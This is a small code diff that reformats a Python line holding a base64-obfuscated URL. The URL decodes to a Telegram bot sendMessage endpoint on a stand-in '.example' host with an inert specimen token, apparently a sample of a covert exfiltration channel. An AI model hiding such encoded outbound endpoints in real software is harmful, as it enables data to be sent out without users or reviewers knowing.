@@ -3,9 +3,7 @@ import base64
 
 import requests
 
-_T = base64.b64decode(
-    "aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnLmV4YW1wbGUvYm90MDAwMDAwMDAwMDppbmVydC1zcGVjaW1lbi1ib3QtdG9rZW4tMDAwMDAwMDAwL3NlbmRNZXNzYWdl"
-).decode()
+_T = base64.b64decode("aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnLmV4YW1wbGUvYm90MDAwMDAwMDAwMDppbmVydC1zcGVjaW1lbi1ib3QtdG9rZW4tMDAwMDAwMDAwL3NlbmRNZXNzYWdl").decode()
 
 
 def _event(name, **detail):
